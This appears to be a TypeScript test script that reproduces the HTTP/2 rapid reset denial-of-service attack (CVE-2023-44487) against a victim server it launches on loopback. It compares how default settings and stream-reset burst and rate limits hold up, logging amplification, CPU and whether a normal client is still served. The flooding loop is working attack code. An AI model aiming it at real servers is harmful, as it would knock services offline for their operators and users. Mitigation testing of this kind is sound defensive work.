/**
 * Spike 5a: rapid reset (CVE-2023-44487). HEADERS (a full GET of /proxy, END_STREAM) immediately
 * followed by RST_STREAM(CANCEL), 100 pairs per write, up to 20,000 pairs or until the server closes.
 * Victim in its own process (victim.ts); /proxy forwards to a loopback app, so "appRequests" is the
 * amplification reaching the application.
 */
import { connect, F, frame, requestBlock, rst, summary, T } from "./h2raw.ts"
import { goodClient, startVictim } from "./victimctl.ts"
import { sleep } from "./common.ts"

const attack = async (label: string, h2: object) => {
  const v = await startVictim({ h2 })
  const { socket, seen, closed } = await connect(v.port)
  const block = requestBlock("/proxy")
  let pairs = 0, stream = 1, during = ""
  const t0 = Date.now()
  while (pairs < 20000 && !socket.destroyed && seen.closedMs === undefined) {
    const batch: Buffer[] = []
    for (let i = 0; i < 100; i++, stream += 2, pairs++) batch.push(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, stream, block), rst(stream, 8))
    socket.write(Buffer.concat(batch))
    if (pairs === 5000) goodClient(v.port).then((r) => (during = r))
    await new Promise((r) => setImmediate(r))
  }
  await Promise.race([closed, sleep(3000)])
  await sleep(500)
  const after = await goodClient(v.port)
  const s = await v.stats()
  console.log(`${label}: wrote ${pairs} HEADERS+RST pairs in ${Date.now() - t0} ms; client saw ${summary(seen)}`)
  console.log(`   server: requests=${s.requests} appRequests=${s.appRequests} sessionErrors=${JSON.stringify(s.sessionErrors)} cpuMs=${s.cpuMs} rssMiB=${s.rssMiB} openSessions=${s.openSessions}`)
  console.log(`   good client during the attack: ${during || "(pending)"}; after: ${after}`)
  v.child.kill()
}
await attack("defaults", {})
await attack("streamResetBurst 100 / streamResetRate 10", { streamResetBurst: 100, streamResetRate: 10 })
await attack("streamResetBurst only (100)", { streamResetBurst: 100 })
process.exit(0)
